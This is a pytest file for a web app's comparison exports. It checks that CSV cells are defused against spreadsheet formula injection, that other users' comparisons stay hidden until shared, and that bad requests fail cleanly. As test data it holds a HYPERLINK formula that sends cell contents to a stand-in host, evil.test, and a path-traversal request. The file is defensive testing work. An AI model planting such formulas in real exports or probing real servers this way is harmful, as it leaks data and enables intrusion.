from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from starlette.applications import Starlette
from starlette.testclient import TestClient
from starlette.types import ASGIApp, Receive, Scope, Send

from store import Person
from tests.reasoning.stand_in import StandIn
from tests.ui.comparing import Tab, tab_at
from ui.tabs.compare import compare_routes
from ui.tabs.compare.controls import View
from ui.tabs.compare.files import COLUMNS, defused

FORMULA = '=HYPERLINK("http://evil.test/"&A1,"open")'


class SignedIn:
    """Puts a person where the accounts' guard does."""

    def __init__(self, app: ASGIApp, person: Person) -> None:
        self.app, self.person = app, person

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        scope.setdefault("state", {})["person"] = self.person
        await self.app(scope, receive, send)


@pytest.fixture
def tab(tmp_path: Path) -> Iterator[Tab]:
    def say(prefix: str, seed: int) -> str:
        return FORMULA if "</think>" in prefix else "hm|"

    tab = tab_at(tmp_path, StandIn(say, context=1024))
    asyncio.run(tab.run(View(), question="What?", domain="general", method="independent"))
    yield tab
    tab.store.close()


def client(tab: Tab, person: Person) -> TestClient:
    return TestClient(SignedIn(Starlette(routes=compare_routes(tab.services)), person))


def stored(tab: Tab):
    (one,) = tab.store.comparisons.list(tab.ada.id)
    return one


def test_the_table_comes_as_csv_with_every_formula_defused(tab: Tab) -> None:
    one = stored(tab)
    answer = client(tab, tab.ada).get(f"/comparisons/{one.id}.csv")
    assert answer.status_code == 200
    assert f'filename="comparison-{one.id}.csv"' in answer.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert tuple(rows[0]) == COLUMNS
    assert [row["thinking_spent"] for row in rows] == ["0", "2", "2"]
    assert [row["budget"] for row in rows] == ["0", "16", ""]
    assert all(row["text"] == f"'{FORMULA}" for row in rows)
    assert all(row["model"] == "stand-in" and row["strategy"] == "vote" for row in rows)


@given(st.text())
def test_no_cell_of_text_begins_a_formula(text: str) -> None:
    cell = defused(text)
    assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
    assert cell in (text, f"'{text}")


def test_numbers_stay_numbers() -> None:
    assert (defused(-1.5), defused(None), defused(True)) == (-1.5, None, True)


def test_all_of_it_comes_as_json_and_the_plot_as_png(tab: Tab) -> None:
    one, ada = stored(tab), client(tab, tab.ada)
    record = ada.get(f"/comparisons/{one.id}.json").json()
    assert record["question"] == "What?"
    assert [column["row"]["text"] for column in record["columns"]] == [FORMULA] * 3
    assert tab.ada.id not in str(record)
    png = ada.get(f"/comparisons/{one.id}.png")
    assert png.headers["content-type"] == "image/png"
    assert png.content.startswith(b"\x89PNG")


@pytest.mark.parametrize("kind", ["csv", "json", "png"])
def test_somebody_else_s_is_as_one_that_never_was_until_it_is_shared(tab: Tab, kind: str) -> None:
    one, eve = stored(tab), client(tab, tab.eve)
    theirs = eve.get(f"/comparisons/{one.id}.{kind}")
    never = eve.get(f"/comparisons/{'0' * 32}.{kind}")
    assert (theirs.status_code, theirs.content) == (never.status_code, never.content)
    assert (theirs.status_code, theirs.text.count("\n")) == (404, 1)
    tab.store.comparisons.set_shared(one.id, tab.ada.id, True)
    assert eve.get(f"/comparisons/{one.id}.{kind}").status_code == 200


def test_what_cannot_be_read_or_named_says_so_in_one_line(tab: Tab) -> None:
    ada = client(tab, tab.ada)
    old = tab.store.comparisons.save(tab.ada.id, "Which?", {"format": 99})
    answer = ada.get(f"/comparisons/{old.id}.csv")
    assert (answer.status_code, answer.text.count("\n")) == (409, 1)
    assert ada.get("/comparisons/..%2f..%2fetc.csv").status_code == 404
    assert ada.post(f"/comparisons/{old.id}.csv").status_code == 405
